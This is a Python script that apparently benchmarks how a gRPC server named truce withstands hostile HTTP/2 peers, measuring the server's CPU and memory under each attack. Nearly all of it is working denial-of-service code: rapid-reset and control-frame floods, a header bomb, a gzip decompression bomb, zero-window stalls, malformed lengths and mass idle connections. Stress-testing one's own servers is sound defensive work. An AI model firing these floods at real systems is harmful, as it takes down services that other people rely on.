#!/usr/bin/env python3
"""What hostile peers of gRPC cost truced: for each attack, how much was sent until the
connection was cut, the time of the server's processor, and how its memory stands after.

usage: grpc_attacks.py HOST:PORT PID"""
import gzip
import os
import socket
import struct
import sys
import time

HOST, PORT = sys.argv[1].rsplit(":", 1)
PID = int(sys.argv[2])
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
LIST = b"/truce.v1.JournalService/ListChanges"


def frame(kind, flags, stream, content=b""):
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


def message(content, packed=0):
    return bytes([packed]) + struct.pack(">I", len(content)) + content


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(path=b"/grpc.health.v1.Health/Check", more=b""):
    return (b"\x83\x86\x01\x01t\x04" + bytes([len(path)]) + path + b"\x0f\x10\x10application/grpc" + more)


def odd(i):
    return 2 * i + 1


BOMB = b"\x40\x03x-b\x7f\xa1\x1e" + b"b" * 4000

# name -> (what is sent first, what is sent again and again)
FLOODS = {
    "rapid reset": (b"", lambda i: frame(HEADERS, END_HEADERS, odd(i), head()) + frame(RST_STREAM, 0, odd(i), b"\0\0\0\x08")),
    "PING": (b"", lambda i: frame(PING, 0, 0, b"12345678")),
    "SETTINGS": (b"", lambda i: frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff")),
    "empty DATA": (frame(HEADERS, END_HEADERS, 1, head()), lambda i: frame(DATA, 0, 1)),
    "CONTINUATION": (frame(HEADERS, 0, 1, head()), lambda i: frame(CONTINUATION, 0, 1, b"\0\1a\1b")),
    "WINDOW_UPDATE": (b"", lambda i: frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")),
    "PRIORITY": (b"", lambda i: frame(PRIORITY, 0, odd(i), b"\0\0\0\0\x10")),
    "streams over the limit": (b"", lambda i: frame(HEADERS, END_HEADERS, odd(i), head())),
    "header bomb": (b"", lambda i: frame(HEADERS, END_HEADERS, odd(i), head(more=BOMB) + b"\xbe" * 12000)),
}


def connect(settings=b""):
    s = socket.create_connection((HOST, int(PORT)))
    s.settimeout(60)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
    return s


def cpu():
    with open(f"/proc/{PID}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def memory():
    with open(f"/proc/{PID}/statm") as f:
        return int(f.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20


def until_closed(s):
    got = b""
    try:
        while part := s.recv(65536):
            got += part
    except OSError:
        pass
    return got


def good():
    s = connect()
    s.sendall(frame(HEADERS, END_HEADERS, 1, head()) + frame(DATA, END_STREAM, 1, message(b"")))
    got = b""
    while message(b"\x08\x01") not in got:
        got += s.recv(65536)
    s.close()


def flood(first, again):
    s, sent, i = connect(), 0, 0
    try:
        s.sendall(first)
        while sent < 1 << 28:
            chunk = b""
            while len(chunk) < 16384:
                chunk += again(i)
                i += 1
            s.sendall(chunk)
            sent += len(chunk)
    except OSError:
        pass
    s.close()
    return sent, i


def idle_streams():
    s = connect()
    for i in range(128):
        s.sendall(frame(HEADERS, END_HEADERS, odd(i), head()))
    s.settimeout(1)
    until_closed(s)
    s.close()
    return 128 * 80, 128


def zero_window():
    s = connect(b"\0\4\0\0\0\0")
    for i in range(128):
        s.sendall(frame(HEADERS, END_HEADERS, odd(i), head(LIST)) + frame(DATA, END_STREAM, odd(i), message(b"\x20\1\x28\xe8\7")))
    s.settimeout(3)
    until_closed(s)
    s.close()
    return 128 * 100, 128


def gzip_bomb():
    packed = message(gzip.compress(b"\0" * (64 << 20)), 1)
    s = connect()
    for i in range(50):
        s.sendall(frame(HEADERS, END_HEADERS, odd(i), head(LIST, literal(b"grpc-encoding", b"gzip"))))
        for at in range(0, len(packed), 16384):
            part = packed[at:at + 16384]
            s.sendall(frame(DATA, END_STREAM if at + 16384 >= len(packed) else 0, odd(i), part))
    s.settimeout(1)
    until_closed(s)
    s.close()
    return 50 * len(packed), 50


def lying_length():
    s = connect()
    for i in range(128):
        s.sendall(frame(HEADERS, END_HEADERS, odd(i), head(LIST)) + frame(DATA, 0, odd(i), message(b"abc")[:1] + b"\0\x3f\0\0abc"))
    s.settimeout(1)
    until_closed(s)
    s.close()
    return 128 * 100, 128


def connections():
    held = [connect() for _ in range(400)]
    for s in held:
        s.sendall(frame(HEADERS, END_HEADERS, 1, head()))
    good()
    for s in held:
        s.close()
    return 400 * 150, 400


OTHERS = {"idle streams": idle_streams, "no window": zero_window, "gzip bomb": gzip_bomb, "a length that lies": lying_length,
          "idle connections": connections}

for _ in range(50):
    good()
for name, what in {**FLOODS, **OTHERS}.items():
    c, m, t = cpu(), memory(), time.monotonic()
    sent, rounds = flood(*what) if isinstance(what, tuple) else what()
    took = time.monotonic() - t
    good()
    print(f"| {name} | {rounds:,} | {sent / 1024:,.0f} | {took:.2f} | {1000 * (cpu() - c):.0f} | {memory() - m:+.1f} |", flush=True)
